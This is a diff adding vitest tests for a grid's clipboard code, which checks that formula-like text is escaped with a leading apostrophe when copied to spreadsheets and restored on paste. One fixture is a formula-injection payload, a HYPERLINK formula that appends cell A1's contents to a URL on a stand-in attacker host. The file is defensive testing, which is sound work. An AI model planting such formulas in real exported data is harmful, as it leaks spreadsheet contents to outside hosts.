@@ -1,7 +1,7 @@
 /** Pasting from Excel and LibreOffice, and copying back: the grid's clipboard rules, without a browser. */
 import { describe, expect, it } from 'vitest';
-import { parseBlock, planPaste, toHtml, toTsv, type PasteTarget } from '../../renderer/grids/clipboard';
-import { FIELDS, fieldCopyText, fieldDisplay, fieldText, parseField, type FieldSpec, type Names } from '../../renderer/grids/fields';
+import { looksLikeFormula, parseBlock, planPaste, textForSpreadsheet, textFromSpreadsheet, toHtml, toTsv, type PasteTarget } from '../../renderer/grids/clipboard';
+import { FIELDS, fieldCopyCell, fieldCopyText, fieldDisplay, fieldText, parseField, type FieldSpec, type Names } from '../../renderer/grids/fields';
 import { AGENCY_TYPES } from '../../shared/enums';
 
 const names: Names = {
@@ -108,6 +108,61 @@ describe('copying amounts', () => {
     expect(fieldCopyText(col('agencyId'), 'a1', names)).toBe('Kent County Council');
     expect(fieldCopyText(col('year'), 2008, names)).toBe('2008-09');
     expect(fieldCopyText(col('amountPence'), null, names)).toBe('');
+  });
+});
+
+describe('copying text that looks like a formula', () => {
+  const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")';
+  const FORMULAS = [HYPERLINK, '+1+1', '-2 (see notes)', '@SUM(A1:A9)', '=1+1\nsecond line', "'=already quoted", "''=twice", '\t=after a tab', '\r=after a return'];
+  const PLAIN = ['Kent County Council', "'tis the season", "'", '1-2 Main Street', 'Care, "homes"', 'a\tb', 'line\nbreak', '', 'x=y', '£5 = plenty'];
+  /** Not formulas, but given the apostrophe too: a pasted block's CR becomes LF, so a leading line break pairs with the same rule. */
+  const LINE_BREAK_FIRST = ['\nstarts with a line break', "'\napostrophe, line break"];
+
+  it('knows the starts a spreadsheet takes as a formula', () => {
+    for (const f of ['=x', '+x', '-x', '@x', '\tx', '\rx']) expect(looksLikeFormula(f), JSON.stringify(f)).toBe(true);
+    for (const t of ['x', ' =x', "'=x", '£-5', '']) expect(looksLikeFormula(t), JSON.stringify(t)).toBe(false);
+  });
+
+  it('writes such text with a leading apostrophe, and takes exactly that apostrophe off again on paste', () => {
+    expect(textForSpreadsheet(HYPERLINK)).toBe(`'${HYPERLINK}`);
+    expect(textForSpreadsheet("'=already quoted")).toBe("''=already quoted");
+    for (const t of PLAIN) expect(textForSpreadsheet(t)).toBe(t);
+    for (const t of LINE_BREAK_FIRST) expect(textForSpreadsheet(t)).toBe(`'${t}`);
+    for (const t of [...FORMULAS, ...PLAIN, ...LINE_BREAK_FIRST]) expect(textFromSpreadsheet(textForSpreadsheet(t)), JSON.stringify(t)).toBe(t);
+    // A block copied from Excel is read as it is: Excel never puts an apostrophe before text it copies.
+    expect(textFromSpreadsheet("'tis")).toBe("'tis");
+  });
+
+  it('copies text cells as text and figures as figures: a negative amount is still a number', () => {
+    const desc = fieldCopyCell(col('description'), HYPERLINK, names);
+    const amount = fieldCopyCell(col('amountPence'), -150_005, names);
+    expect(desc).toEqual({ text: HYPERLINK, figure: false });
+    expect(amount).toEqual({ text: '-£1500.05', figure: true });
+    expect(fieldCopyCell(col('year'), 2008, names)).toEqual({ text: '2008-09', figure: true });
+    // An editor's pending text where an amount belongs is text, shown as what it would save.
+    expect(fieldCopyCell(col('amountPence'), '-500', names)).toEqual({ text: '-500.00', figure: false });
+    expect(fieldCopyCell(col('agencyId'), 'a1', names)).toEqual({ text: 'Kent County Council', figure: false });
+    const tsv = toTsv([[desc, amount, { text: '@SUM(A1)', figure: false }, '+44 20 7946 0000']]);
+    expect(tsv).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")"\t-£1500.05\t'@SUM(A1)\t'+44 20 7946 0000`);
+    const html = toHtml([[desc, amount, 'Plain']]);
+    expect(html).toBe(`<table><tr><td style="mso-number-format:'\\@'">=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Click for details&quot;)</td><td>-£1500.05</td><td>Plain</td></tr></table>`);
+  });
+
+  it('escapes a formula followed by a line break (papaparse\'s escapeFormulae pattern misses it)', () => {
+    expect(toTsv([['=1+1\nsecond line']])).toBe(`"'=1+1\nsecond line"`);
+  });
+
+  it('round-trips: every text and figure copied from the grid pastes back as it was', () => {
+    const texts = [...FORMULAS, ...PLAIN, ...LINE_BREAK_FIRST];
+    const rows = texts.map((t) => [t, { text: '-£1500.05', figure: true }]);
+    const back = parseBlock(toTsv(rows));
+    // Only the line endings change, as for any block pasted (CR becomes LF); a trailing empty row is dropped.
+    const expected = texts.map((t) => [t.replace(/\r\n?/g, '\n'), '-£1500.05']);
+    expect(back).toEqual(expected);
+    // Pasted into the spend grid, the description is the text and the amount the number.
+    const block = parseBlock(toTsv([[fieldCopyCell(col('agencyId'), 'a1', names), fieldCopyCell(col('description'), HYPERLINK, names), fieldCopyCell(col('amountPence'), -150_005, names)]]));
+    const plan = planPaste('spend', block, target(), names);
+    expect(plan.ok && plan.creates).toEqual([{ agencyId: 'a1', description: HYPERLINK, amountPence: -150_005 }]);
   });
 });
 
